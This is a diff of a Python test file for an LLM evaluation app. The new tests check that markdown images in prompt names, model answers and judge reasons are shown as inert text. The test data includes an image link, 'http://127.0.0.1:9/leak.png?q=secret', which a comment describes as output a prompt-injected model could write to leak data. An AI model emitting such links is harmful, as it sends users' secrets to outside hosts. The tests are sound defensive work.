@@ -22,16 +22,20 @@ from playground.evaluation.datasets import parse_dataset
 from playground.evaluation.manager import BatchManager
 from playground.evaluation.plan import BatchSpec
 from playground.results import ModelTarget
+from playground.safe_text import escape_markdown, inert_images
 from playground.store.eval_ratings import stored_votes
 from playground.store.eval_repository import batch_cells, set_batch_status, update_cells
+from playground.store.models import Result
 from tests.app_harness import click, open_page, open_tab, texts
 
 pytestmark = pytest.mark.usefixtures("app_env")
 TABS = "evaluate.tab"
 
 
-def _finished_batch(models: tuple[str, ...] = ("gpt-5-nano", "claude-haiku-4.5")) -> int:
-    version = evaluation.save_template("capitals", "Be terse.", "Capital of {{ country }}?")
+def _finished_batch(
+    models: tuple[str, ...] = ("gpt-5-nano", "claude-haiku-4.5"), template: str = "capitals"
+) -> int:
+    version = evaluation.save_template(template, "Be terse.", "Capital of {{ country }}?")
     dataset_id = evaluation.store_dataset("c", parse_dataset("country\nFrance\nItaly\n"))
     spec = BatchSpec(
         title="capitals",
@@ -186,6 +190,23 @@ def test_leaderboard_page_empty_then_filled(app_env: Path) -> None:
     at = open_page("pages/leaderboard.py")
     assert not at.exception
     assert len(at.dataframe[0].value) == 2
+
+
+def test_a_prompt_version_named_in_markdown_is_shown_as_text_on_the_leaderboard(
+    app_env: Path,
+) -> None:
+    name = "![x](http://127.0.0.1:9/leak.png)"
+    blind = evaluation.next_blind_round(
+        _finished_batch(template=name), "me", random.Random(0), size=2
+    )
+    assert blind is not None
+    evaluation.vote(blind, "tie", "me")
+    at = open_page("pages/leaderboard.py")
+    at.radio(key="leaderboard.grouping").set_value("by prompt version").run()
+    assert not at.exception
+    (undecided,) = texts(at, "caption")
+    assert undecided.startswith("Not enough votes yet to tell ")
+    assert escape_markdown(f"{name} v1") in undecided and name not in undecided
 
 
 def test_llm_judge_assertion_offers_a_judge_and_prices_it_into_the_estimate(app_env: Path) -> None:
@@ -343,3 +364,24 @@ def test_another_batch_picked_after_an_answer_shows_its_own_first_answer(app_env
     assert not at.exception
     assert at.selectbox(key="evaluate.results_batch").value == first
     assert at.selectbox(key="evaluate.rate_cell").value == evaluation.cells(first)[0].result_id
+
+
+def test_images_in_answers_and_judge_reasons_are_shown_as_text(app_env: Path) -> None:
+    batch_id = _finished_batch()
+    image = "![x](http://127.0.0.1:9/leak.png?q=secret)"
+    # What a prompt-injected model could write, and a judge quoting it.
+    answer = f"See {image} and `vec![1, 2]`."
+    reason = {"label": "llm_judge", "passed": False, "message": f"Judge: FAIL {image}"}
+    cells = evaluation.cells(batch_id)
+    with services.get_store().session() as session, session.begin():
+        session.execute(sa.update(Result).values(content=answer))
+        update_cells(session, [c.id for c in cells], passed=False, assertions_json=[reason])
+
+    at = open_tab(open_page("pages/evaluate.py"), TABS, "Results")
+    assert not at.exception
+    assert inert_images(answer) in texts(at, "markdown")
+    assert f"✗ {escape_markdown('llm_judge: ' + reason['message'])}" in texts(at, "caption")
+    at = click(open_tab(at, TABS, "Blind vote"), "Next round")
+    assert not at.exception
+    assert texts(at, "markdown").count(inert_images(answer)) == 2
+    assert answer not in texts(at, "markdown")
